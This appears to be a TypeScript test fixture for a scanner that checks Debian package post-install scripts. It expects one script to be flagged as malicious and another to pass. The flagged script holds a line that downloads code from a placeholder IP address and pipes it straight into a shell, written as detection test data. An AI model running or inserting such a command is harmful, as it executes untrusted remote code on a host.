import { type Pair, script } from './pair.ts';

export const pair: Pair = {
  tree: {
    '/var/lib/dpkg/info/netd.postinst': script('set -e\nwget -qO- http://203.0.113.9/p | sh'),
    '/var/lib/dpkg/info/stock.postinst': script(
      'set -e\nrm -rf /var/tmp/stock-migration\ninvoke-rc.d stock start',
    ),
  },
  blamed: [
    {
      path: '/var/lib/dpkg/info/netd.postinst',
      line: 3,
      verdict: 'malicious',
      code: 'fetch-pipe-shell',
      attack: 'T1546.016',
    },
  ],
  passed: ['stock.postinst'],
};
